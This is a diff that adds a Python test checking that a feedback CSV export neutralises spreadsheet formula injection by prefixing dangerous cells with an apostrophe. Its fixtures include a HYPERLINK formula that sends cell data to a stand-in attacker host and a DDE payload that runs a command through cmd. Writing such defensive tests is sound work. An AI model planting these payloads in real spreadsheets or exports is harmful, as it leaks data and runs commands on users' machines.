@@ -73,3 +73,23 @@ def test_nul_characters_are_dropped_on_both_back_ends():
     stored = record_feedback("up", "nul\x00 here", "an\x00swer", ["a-b"])
     assert (stored.question, stored.answer) == ("nul here", "answer")
     assert [(f.question, f.answer) for f in list_feedback()] == [("nul here", "answer")]
+
+
+def test_csv_export_neutralises_spreadsheet_formulas():
+    # A visitor's question or an answer quoting one becomes a cell a spreadsheet would run.
+    dangerous = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tleading tab",
+    ]
+    for text in dangerous:
+        record_feedback("down", text, text, [], "ask")
+    rows = list(csv.reader(io.StringIO(feedback_csv(), newline="")))[1:]
+    for row, text in zip(rows, dangerous, strict=True):
+        question, answer = row[4], row[5]
+        assert question == answer == "'" + text
+    record_feedback("up", "a plain question", "a = b, harmless", [], "ask")
+    last = list(csv.reader(io.StringIO(feedback_csv(), newline="")))[-1]
+    assert last[4] == "a plain question" and last[5] == "a = b, harmless"
